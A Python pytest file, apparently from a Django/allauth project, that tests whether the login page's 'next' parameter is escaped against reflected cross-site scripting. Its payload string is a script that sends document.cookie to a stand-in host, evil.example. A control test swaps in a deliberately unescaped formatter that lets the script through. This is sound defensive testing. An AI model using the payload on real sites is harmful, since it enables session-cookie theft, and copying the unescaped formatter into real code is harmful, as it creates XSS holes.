"""
Reflected cross-site scripting: a link to the site carries a script that the page repeats.

HTML is put together by templates and format_html, and both turn < > & and quotation marks
in every value into text.
https://docs.djangoproject.com/en/6.1/ref/utils/#django.utils.html.format_html
"""

import pytest
from django.utils.html import escape
from django.utils.safestring import mark_safe

PROTECTION = "allauth/account/mixins.py: format_html("

ADDRESS = "/\"><script>fetch('//evil.example/' + document.cookie)</script>"

pytestmark = pytest.mark.django_db


def attack(client):
    """Send somebody a link to the sign-in page, which keeps the address to go to afterwards."""
    return client.get("/accounts/login/", {"next": ADDRESS})


def naive_format(html, *values):
    return mark_safe(html.format(*values))


def test_attack_stays_inside_its_quotation_marks(client):
    page = attack(client)

    assert page.status_code == 200
    assert f'value="{escape(ADDRESS)}"' in page.text
    assert "<script>fetch" not in page.text


def test_control_without_escaping_the_script_is_in_the_page(client, monkeypatch):
    monkeypatch.setattr("allauth.account.mixins.format_html", naive_format)

    page = attack(client)

    assert f'value="{ADDRESS}"' in page.text
